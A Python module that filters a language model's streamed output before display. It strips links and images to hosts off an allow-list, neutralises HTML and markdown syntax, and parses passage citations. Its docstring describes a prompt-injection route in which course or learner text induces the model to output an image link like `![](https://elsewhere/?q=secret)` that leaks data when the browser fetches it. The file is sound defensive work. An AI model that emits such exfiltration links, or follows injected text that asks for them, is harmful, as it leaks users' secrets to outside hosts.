"""A model's text as it streams, made safe to show: no link or image but to allowed hosts, no HTML, citations read.

Text that a course's author or a learner wrote can talk a model into `![](https://elsewhere/?q=secret)`, which a browser
would fetch. So destinations are removed, and what could become markup is parted by a space (CommonMark 0.31: links need
`](` together, definitions `]:`, HTML a letter right after `<`). All of it lies within one run of ASCII characters, so a
run is held back until it ends, and the result does not depend on where chunks were cut.
"""

import re
from collections.abc import Collection, Iterator
from urllib.parse import urlsplit

LINK_REMOVED = "{link removed}"
_RUN = re.compile(r"[!-~]*\Z")
_OPEN_MARKER = re.compile(r"[!-~]*\[[\d, ]{0,64}\Z", re.ASCII)
_NUMBER = r"[1-9]\d{0,2}"
_MARKER = re.compile(rf"\[ ?({_NUMBER}(?: ?, ?{_NUMBER}){{0,9}}) ?\]", re.ASCII)
_BANG = re.compile(r"!+(?=\[)")
_LETTER_AFTER_LESS = re.compile(r"<(?=[A-Za-z/!?])")
_PART = r"[!-'*-Z\\^-~]*"
_TARGET = re.compile(rf"\]\((?P<url>{_PART}(?:\({_PART}\){_PART})?)(?P<closed>\)?)(?P<next>[(\[:]?)")
_URL = r"[!-'*-;=?-~]*"
_ADDRESS = re.compile(
    rf"[A-Za-z][A-Za-z0-9+.-]{{1,30}}://{_URL}|//[A-Za-z0-9.:@-]+\.{_URL}|[Ww]{{3}}\.{_URL}"
    rf"|(?<![A-Za-z0-9])(?ai:javascript|vbscript|data|mailto|file):(?=[!-~]){_URL}"
)


class Screen:
    """Feed chunks; get what may be shown so far: strings, and the numbers of passages just cited."""

    def __init__(self, *, passages: int, allowed_hosts: Collection[str] = ()) -> None:
        self._passages = passages
        self._hosts = frozenset(host.lower() for host in allowed_hosts)
        self._held = ""

    def feed(self, chunk: str) -> Iterator[str | int]:
        self._held += chunk
        settled = _settled(self._held)
        ready, self._held = self._held[:settled], self._held[settled:]
        return self._read(ready)

    def finish(self) -> Iterator[str | int]:
        ready, self._held = self._held, ""
        return self._read(ready)

    def _read(self, text: str) -> Iterator[str | int]:
        text = self._clean(text)
        shown = 0
        for marker in _MARKER.finditer(text):
            cited = [n for n in map(int, marker.group(1).split(",")) if 1 <= n <= self._passages]
            before = text[shown : marker.start()]
            shown = marker.end()
            # A number without its passage would look like evidence, so it goes.
            yield from filter(None, [before + (f"[{', '.join(map(str, cited))}]" if cited else "")])
            yield from cited
        yield from filter(None, [text[shown:]])

    def _clean(self, text: str) -> str:
        text = _TARGET.sub(self._target, _BANG.sub("", text)).replace("]:", "] :")
        text = _LETTER_AFTER_LESS.sub("< ", text)
        return _ADDRESS.sub(lambda found: found.group() if self._is_allowed(found.group()) else LINK_REMOVED, text)

    def _target(self, found: re.Match[str]) -> str:
        if not found["closed"]:
            return f"] ({found['url']}{found['next']}"
        kept = found.group().removesuffix(found["next"]) if self._is_allowed(found["url"]) else "]"
        # What follows must not take the place of what was removed.
        return f"{kept} {found['next']}" if found["next"] else kept

    def _is_allowed(self, address: str) -> bool:
        try:
            parts = urlsplit(address)
            return parts.scheme == "https" and parts.hostname in self._hosts and "\\" not in address
        except ValueError:
            return False


def _settled(text: str) -> int:
    """How much of the text no later chunk can change."""
    end = _start(_RUN, text)
    while (start := _start(_OPEN_MARKER, text[:end])) < end:
        end = start
    return end


def _start(pattern: re.Pattern[str], text: str) -> int:
    found = pattern.search(text)
    return found.start() if found else len(text)
